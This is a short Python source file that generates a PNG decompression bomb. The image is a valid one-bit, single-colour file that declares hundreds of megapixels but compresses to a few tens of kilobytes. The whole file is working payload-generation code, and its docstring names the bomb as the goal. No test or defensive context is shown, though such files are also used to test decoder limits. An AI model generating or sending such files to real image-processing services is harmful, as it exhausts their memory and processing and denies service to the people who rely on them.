"""Make a decompression bomb: a small file that asks for a very large picture."""

import struct
import zlib


def png_bomb(width_px: int, height_px: int) -> bytes:
    """A whole and valid PNG file of one colour: 200 megapixels take 25 kB.

    One bit for each pixel, and all of them the same: that is packed 1000 times smaller.
    """
    row = b"\0" + bytes((width_px + 7) // 8)  # each row begins with a byte for its filter
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(row) for _ in range(height_px)) + packer.flush()
    size = struct.pack(">IIBBBBB", width_px, height_px, 1, 0, 0, 0, 0)
    parts = (_part(b"IHDR", size), _part(b"IDAT", packed), _part(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def _part(kind: bytes, content: bytes) -> bytes:
    check = zlib.crc32(kind + content)
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", check)
